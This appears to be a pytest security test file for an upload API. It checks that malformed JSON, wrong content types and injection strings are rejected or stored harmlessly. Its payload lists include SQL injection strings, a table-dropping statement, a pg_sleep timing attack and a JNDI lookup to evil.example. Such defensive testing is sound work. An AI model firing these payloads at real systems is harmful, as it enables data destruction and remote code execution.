"""JSON that two parsers read differently, or that costs more than it weighs."""
import time

import pytest

BODIES = {
    "duplicate member": b'{"profile":"photos","profile":"small"}',
    "member by escapes": b'{"profile":"photos","\\u0070rofile":"small"}',
    "deep list": b'{"metadata":' + b"[" * 60_000,
    "deep object": b'{"metadata":' + b'{"a":' * 30_000,
    "lone surrogate": b'{"profile":"photos","filename":"\\ud800"}',
    "overlong UTF-8": b'{"profile":"photos","filename":"\xc0\xaf"}',
    "not UTF-8": b'{"profile":"ph\xfftos"}',
    "byte order mark": b'\xef\xbb\xbf{"profile":"photos","x":1}',
    "comment": b'{/* x */"profile":"photos"}',
    "trailing comma": b'{"profile":"photos",}',
    "two documents": b'{"profile":"photos"}{"profile":"small"}',
    "NaN": b'{"profile":"photos","size":NaN}',
    "huge number": b'{"profile":"photos","size":' + b"9" * 5000 + b"}",
    "huge exponent": b'{"profile":"photos","size":1e999999}',
    "negative zero": b'{"profile":"photos","size":-0}',
    "number as text": b'{"profile":"photos","size":"10"}',
    "prototype": b'{"profile":"photos","__proto__":{"admin":true}}',
    "ten thousand members": b"{" + b",".join(b'"k%d":1' % n for n in range(10_000)) + b"}",
    "NUL in a name": b'{"profile":"photos","metadata":{"a\\u0000b":"x"}}',
    "NUL in a value": b'{"profile":"photos","metadata":{"a":"x\\u0000y"}}',
    "UTF-16": '{"profile":"photos"}'.encode("utf-16"),
}


@pytest.mark.parametrize("what", list(BODIES), ids=list(BODIES))
def test_ambiguous_json_creates_nothing(world, what):
    before = world.sql("select count(*) from uploads")
    began = time.monotonic()
    status, _, problem = world.request("POST", "/v1/uploads", BODIES[what], {"Content-Type": "application/json"})
    assert status in (400, 413, 422), problem
    assert time.monotonic() - began < 5
    assert world.sql("select count(*) from uploads") == before


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/xml", ""])
def test_simple_request_of_a_foreign_page_is_refused(world, kind):
    before = world.sql("select count(*) from uploads")
    assert world.request("POST", "/v1/uploads", b'{"profile":"photos"}', {"Content-Type": kind})[0] in (400, 415)
    assert world.sql("select count(*) from uploads") == before


INJECTIONS = ["' or '1'='1", "'; drop table uploads; --", "\\x27", "%27", "$1", "a' || pg_sleep(5) || '", "\u02bc or 1=1", "{{7*7}}", "${jndi:ldap://evil.example/x}"]


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("where", ["metadata", "filename", "query", "idempotency"])
def test_injection_is_only_text(world, text, where):
    import urllib.parse
    began = time.monotonic()
    if where == "query":
        status = world.request("GET", f"/v1/uploads?metadata.a={urllib.parse.quote(text)}")[0]
    elif where == "idempotency":
        status = world.request("POST", "/v1/uploads", {"profile": "photos"}, {"Idempotency-Key": text.encode("ascii", "replace").decode()})[0]
    else:
        status = world.request("POST", "/v1/uploads", {"profile": "photos", where: {"a": text} if where == "metadata" else text})[0]
    assert status in (200, 201, 400, 422) and time.monotonic() - began < 4
    assert int(world.sql("select count(*) from uploads")) > 0
